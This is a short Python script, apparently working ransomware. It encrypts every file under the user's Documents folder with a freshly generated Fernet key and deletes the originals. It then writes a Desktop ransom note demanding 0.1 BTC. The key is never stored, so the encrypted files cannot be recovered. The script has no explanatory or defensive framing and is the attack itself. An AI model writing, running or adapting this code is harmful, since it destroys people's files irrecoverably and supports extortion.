import os
from cryptography.fernet import Fernet
key = Fernet.generate_key()
f = Fernet(key)
for root, _, files in os.walk(os.path.expanduser("~/Documents")):
    for name in files:
        p = os.path.join(root, name)
        with open(p, "rb") as fh:
            data = fh.read()
        with open(p + ".locked", "wb") as fh:
            fh.write(f.encrypt(data))
        os.remove(p)
with open(os.path.expanduser("~/Desktop/README_RESTORE.txt"), "w") as fh:
    fh.write("Your files are encrypted. Send 0.1 BTC to restore.")
